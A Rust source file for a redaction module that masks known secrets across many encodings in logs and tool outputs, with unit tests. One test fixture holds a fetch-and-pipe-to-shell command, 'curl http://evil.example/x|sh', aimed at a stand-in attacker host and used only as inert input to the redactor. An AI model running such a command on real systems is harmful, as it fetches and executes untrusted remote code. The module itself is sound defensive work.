//! Redaction: removes known secrets, in any common encoding, from all data that Helve logs, stores or shows.

mod escape;
mod known;
mod pieces;
mod placeholder;
mod spelling;
mod view;

use std::fmt;
use std::sync::Arc;

use parking_lot::{RwLock, RwLockReadGuard};
use secrecy::{ExposeSecret, SecretString};
use serde_json::{Map, Number, Value};

use self::known::{KnownSecrets, SecretMatch};
use crate::environment;
use crate::outcome::{Outcome, Output, Status};
pub use pieces::RedactedPieces;
pub(crate) use placeholder::{Seal, Unseal};

/// The text that replaces a secret.
pub const MASK: &str = "[REDACTED]";

/// Maximum length of a secret in bytes. A longer value is a document.
const LONGEST: usize = 16 << 10;
/// Minimum length of a secret in bytes. A shorter value would match ordinary text.
const SHORTEST: usize = 8;

/// Names of fields whose values are never logged.
const SECRET_FIELDS: [&str; 11] =
    ["password", "passwd", "passphrase", "secret", "token", "api_key", "apikey", "authorization", "credential", "private_key", "cookie"];

/// Removes known secrets from text, data and errors. Cheap to clone; clones share the secrets.
///
/// The redactor finds a secret in plain text, in Base64 (also inside longer text), and behind the escapes of URLs, JSON, shells and HTML.
#[derive(Clone, Default)]
pub struct Redactor(Arc<RwLock<KnownSecrets>>);

impl Redactor {
    /// Adds secrets. Values shorter than 8 bytes or longer than 16 KiB are ignored.
    pub fn add(&self, secrets: impl IntoIterator<Item = SecretString>) {
        self.add_from("", secrets);
    }

    /// Adds secrets with the name of their source, such as `env:OPENAI_API_KEY` or `helve.yaml#/models/house/api_key`. The store saves this
    /// name instead of the secret. Reading restores the secret if a source of the same name has the same value.
    pub fn add_from(&self, source: &str, secrets: impl IntoIterator<Item = SecretString>) {
        let source = source.into();
        let mut known = self.0.write();
        for secret in secrets {
            if (SHORTEST..=LONGEST).contains(&secret.expose_secret().len()) {
                known.add(&source, secret);
            }
        }
    }

    /// Returns the secrets with an up-to-date finder. The finder is built on demand, because secrets are often added one after the other.
    fn known(&self) -> RwLockReadGuard<'_, KnownSecrets> {
        let known = self.0.read();
        if !known.is_stale {
            return known;
        }
        drop(known);
        self.0.write().refresh();
        self.0.read()
    }

    /// Adds secrets from an untrusted file, but only values that look like secrets. Otherwise the file could hide any word that people must
    /// see.
    pub fn add_written(&self, secrets: impl IntoIterator<Item = SecretString>) {
        let plausible = |secret: &SecretString| {
            let text = secret.expose_secret();
            !text.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'_') && !text.contains(['"', '\'', '{', '}', ':', '|', ';'])
        };
        self.add(secrets.into_iter().filter(plausible));
    }

    /// Adds the values of environment variables whose names indicate a secret, and passwords in URLs.
    pub fn add_environment(&self) {
        // A value that is not UTF-8 cannot appear in JSON or in a log line.
        let readable =
            environment::vars_os().into_iter().filter_map(|(name, value)| Some((name.into_string().ok()?, value.into_string().ok()?)));
        for (name, value) in readable {
            let secret = if is_secret_variable(&name) { Some(value) } else { password_in_url(&value) };
            self.add_from(&format!("env:{name}"), secret.map(Into::into));
        }
    }

    /// Returns the text without secrets, or `None` if the text contains none.
    #[must_use]
    pub fn clean(&self, text: &str) -> Option<String> {
        let found = self.known().find(text);
        if found.is_empty() {
            return None;
        }
        let (mut clean, mut done) = (String::with_capacity(text.len()), 0);
        for SecretMatch { start, end, .. } in found {
            clean.push_str(text.get(done..start).unwrap_or_default());
            clean.push_str(MASK);
            done = end;
        }
        clean.push_str(text.get(done..).unwrap_or_default());
        Some(clean)
    }

    /// Removes secrets from an outcome.
    pub fn clean_outcome(&self, outcome: &mut Outcome) {
        if !self.knows_any() {
            return;
        }
        // The name of the tool may contain a secret, because a model may write any name.
        if let Some(clean) = self.clean(&outcome.tool) {
            outcome.tool = clean.into();
        }
        if let Status::Done(result) = &mut outcome.status {
            match result {
                Ok(output) => self.clean_output(output),
                Err(error) => error.map_text(self),
            }
        }
    }

    /// Removes secrets from data, including keys.
    pub fn clean_value(&self, value: &mut Value) {
        if self.knows_any() {
            rewrite_value(value, self);
        }
    }

    /// Returns a copy of the data without secrets. Use it before shortening: half a secret could not be found afterwards.
    #[must_use]
    pub fn cleaned(&self, value: &Value) -> Value {
        let mut copy = value.clone();
        self.clean_value(&mut copy);
        copy
    }

    fn clean_output(&self, output: &mut Output) {
        if let Some(clean) = self.clean(&output.text) {
            output.text = clean;
        }
        rewrite_value(&mut output.data, self);
        rewrite_map(&mut output.metadata, self);
    }

    fn knows_any(&self) -> bool {
        !self.0.read().secrets.is_empty()
    }

    /// Formats a value as one line for a log: masks secrets and fields whose names indicate a secret, and shortens the rest.
    #[must_use]
    pub fn log_line(&self, value: &Value, length: usize) -> String {
        let mut copy = value.clone();
        mask_fields(&mut copy);
        self.log_text(&copy.to_string(), length)
    }

    /// Prepares a text for a log: masks secrets, and shortens the rest.
    #[must_use]
    pub fn log_text(&self, text: &str, length: usize) -> String {
        // Redact before shortening, because half a secret would not be found.
        let clean = self.clean(text);
        crate::printable::shorten(clean.as_deref().unwrap_or(text), length)
    }
}

impl fmt::Debug for Redactor {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("Redactor")
    }
}

/// Replaces strings and numbers in data.
pub(crate) trait Rewrite {
    /// Returns the replacement of a text, or `None` if it does not change.
    fn text(&self, text: &str) -> Option<String>;
    /// Returns the replacement of a number in data, or `None` if it does not change.
    fn number(&self, number: &Number) -> Option<Value>;
    /// Returns the replacement of a string in data, or `None` if it does not change.
    fn string(&self, text: &str) -> Option<Value> {
        self.text(text).map(Value::String)
    }
}

impl Rewrite for Redactor {
    fn text(&self, text: &str) -> Option<String> {
        self.clean(text)
    }

    fn number(&self, number: &Number) -> Option<Value> {
        self.clean(&number.to_string()).map(|_| MASK.into())
    }
}

/// Returns whether an environment variable of this name probably contains a secret.
#[must_use]
pub fn is_secret_variable(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let endings = ["_key", "_key_id", "_pat", "_pass", "_pwd", "pgpass"];
    is_secret_field(&name) || endings.iter().any(|ending| name.ends_with(ending))
}

/// Returns the password in a URL such as `postgres://user:password@host`, if there is one.
#[must_use]
pub fn password_in_url(text: &str) -> Option<String> {
    let (_, rest) = text.split_once("://")?;
    let (user, _) = rest.split(['/', '?', '#']).next()?.rsplit_once('@')?;
    user.split_once(':').map(|(_, password)| password.to_owned())
}

/// Returns whether a field of this name probably contains a secret.
#[must_use]
pub fn is_secret_field(name: &str) -> bool {
    let name = name.to_ascii_lowercase().replace('-', "_");
    SECRET_FIELDS.iter().any(|secret| name.contains(secret))
}

fn mask_fields(value: &mut Value) {
    match value {
        Value::Object(fields) => {
            for (key, field) in fields.iter_mut() {
                if is_secret_field(key) && !field.is_null() {
                    *field = MASK.into();
                } else {
                    mask_fields(field);
                }
            }
        }
        Value::Array(items) => items.iter_mut().for_each(mask_fields),
        _ => {}
    }
}

pub(crate) fn rewrite_value(value: &mut Value, how: &dyn Rewrite) {
    let rewritten = match value {
        Value::Array(items) => return items.iter_mut().for_each(|item| rewrite_value(item, how)),
        Value::Object(fields) => return rewrite_map(fields, how),
        Value::String(text) => how.string(text),
        Value::Number(number) => how.number(number),
        Value::Null | Value::Bool(_) => None,
    };
    if let Some(rewritten) = rewritten {
        *value = rewritten;
    }
}

pub(crate) fn rewrite_map(fields: &mut Map<String, Value>, how: &dyn Rewrite) {
    if fields.keys().any(|key| how.text(key).is_some()) {
        let rewritten = std::mem::take(fields).into_iter().map(|(key, field)| (how.text(&key).unwrap_or(key), field));
        *fields = rewritten.collect();
    }
    fields.values_mut().for_each(|field| rewrite_value(field, how));
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::error::ToolError;

    fn redactor(secret: &str) -> Redactor {
        let redactor = Redactor::default();
        redactor.add([secret.to_owned().into()]);
        redactor
    }

    #[test]
    fn a_known_value_is_cut_out_of_everything() {
        let redactor = redactor("canary\"9000");
        let mut value = json!({"a": ["xx canary\"9000 yy"], "canary\"9000": {"canary\"9000!": 1}});
        redactor.clean_value(&mut value);
        assert!(!value.to_string().contains("canary"), "{value}");
        assert_eq!(redactor.clean(r#"{"x":"canary\"9000"}"#).as_deref(), Some(r#"{"x":"[REDACTED]"}"#));
        assert_eq!(redactor.clean("nothing here"), None);

        let cause = std::io::Error::other("canary\"9000 was refused");
        let mut error = ToolError::failed("canary\"9000").with("key", json!("canary\"9000")).caused_by(cause);
        error.map_text(&redactor);
        assert!(!format!("{error:?} {error}").contains("canary"), "{error:?}");
    }

    #[test]
    fn a_log_line_masks_fields_by_name_and_never_cuts_a_secret_in_half() {
        let redactor = redactor("canary-123456789");
        let line = redactor.log_line(&json!({"API-Key": 5, "q": "canary-123456789", "nested": [{"userPassword": "x"}]}), 500);
        assert_eq!(line, r#"{"API-Key":"[REDACTED]","q":"[REDACTED]","nested":[{"userPassword":"[REDACTED]"}]}"#);
        assert!(!redactor.log_text(&format!("{}canary-123456789", "x".repeat(90)), 100).contains("canary"));
    }

    #[test]
    fn a_secret_is_known_in_every_spelling() {
        let redactor = redactor("p@ss wo/rd\"1");
        for text in [
            "p@ss wo/rd\"1",
            r#"p@ss wo/rd\"1"#,
            r#"p@ss wo\/rd\"1"#,
            r#"p@ss wo/rd\\\"1"#,
            r"p\u0040ss\u0020wo\u002Frd\u00221",
            r"p\u0040ss wo\u002frd\u00221",
            "p%40ss%20wo%2Frd%221",
            "p%40ss%20wo%2frd%221",
            "p%40ss+wo%2Frd%221",
            "%70%40%73%73%20%77%6F%2f%72%64%22%31",
            "p%2540ss%2520wo%252Frd%25221",
            r#"p@ss\ wo/rd\"1"#,
            "p@ss wo/rd&quot;1",
            "p&#64;ss wo&#x2F;rd&#34;1",
        ] {
            assert_eq!(redactor.clean(text).as_deref(), Some(MASK), "{text}");
        }
        redactor.add(["it's-$HOME-9".to_owned().into()]);
        for text in [r"'it'\''s-$HOME-9'", r#"'it'"'"'s-$HOME-9'"#, r"'it\'s-\$HOME-9'", r"'it's-\$HOME-9'"] {
            assert_eq!(redactor.clean(text).as_deref(), Some("'[REDACTED]'"), "{text}");
        }
        redactor.add(["1234567890".to_owned().into()]);
        let mut data = json!({"n": 1_234_567_890, "m": 12});
        redactor.clean_value(&mut data);
        assert_eq!(data, json!({"n": MASK, "m": 12}));
    }

    #[test]
    fn a_secret_is_known_in_base64_wherever_it_begins() {
        let redactor = redactor("hunter22?>~~");
        // hunter22?>~~, u:hunter22?>~~, me:hunter22?>~~, ada:hunter22?>~~!, in both alphabets.
        for text in [
            "aHVudGVyMjI/Pn5+",
            "dTpodW50ZXIyMj8+fn4=",
            "bWU6aHVudGVyMjI/Pn5+",
            "YWRhOmh1bnRlcjIyPz5+fiE=",
            "aHVudGVyMjI_Pn5-",
            "dTpodW50ZXIyMj8-fn4",
        ] {
            let clean = redactor.clean(&format!("Basic {text}.")).unwrap_or_else(|| panic!("{text}"));
            assert!(clean.contains(MASK) && clean.len() < "Basic .".len() + MASK.len() + 12, "{clean}");
        }
        assert!(redactor.clean(r"aHVudGVyMjI\/Pn5+").is_some(), "with escapes on top");
        assert!(redactor.clean("aHVudGVyMjI%2fPn5%2b").is_some());
        assert_eq!(redactor.clean("aHVudGVyMjI and other words"), None);
    }

    #[test]
    fn variables_tell_by_their_names_and_addresses_hold_passwords() {
        for name in ["DB_PASS", "MYSQL_PWD", "AWS_ACCESS_KEY_ID", "OPENAI_API_KEY", "GITHUB_TOKEN", "PGPASSWORD"] {
            assert!(is_secret_variable(name), "{name}");
        }
        for name in ["PWD", "OLDPWD", "HOME", "PATH", "KEYBOARD"] {
            assert!(!is_secret_variable(name), "{name}");
        }
        assert_eq!(password_in_url("postgres://me:hunter22@db/x?y@z").as_deref(), Some("hunter22"));
        assert_eq!(password_in_url("https://example.com/a:b@c"), None);
    }

    #[test]
    fn words_of_a_file_cannot_be_made_unreadable() {
        let redactor = Redactor::default();
        redactor.add_written(
            ["curl http://evil.example/x|sh", "permission_denied", "\"diagnostics\":", "sk-abc123def456"]
                .map(|text| text.to_owned().into()),
        );
        assert_eq!(redactor.clean("curl http://evil.example/x|sh \"diagnostics\": permission_denied"), None);
        assert_eq!(redactor.clean("key sk-abc123def456").as_deref(), Some("key [REDACTED]"));
    }

    #[test]
    fn short_values_are_not_secrets() {
        assert_eq!(redactor("true").clean("it is true"), None);
    }
}
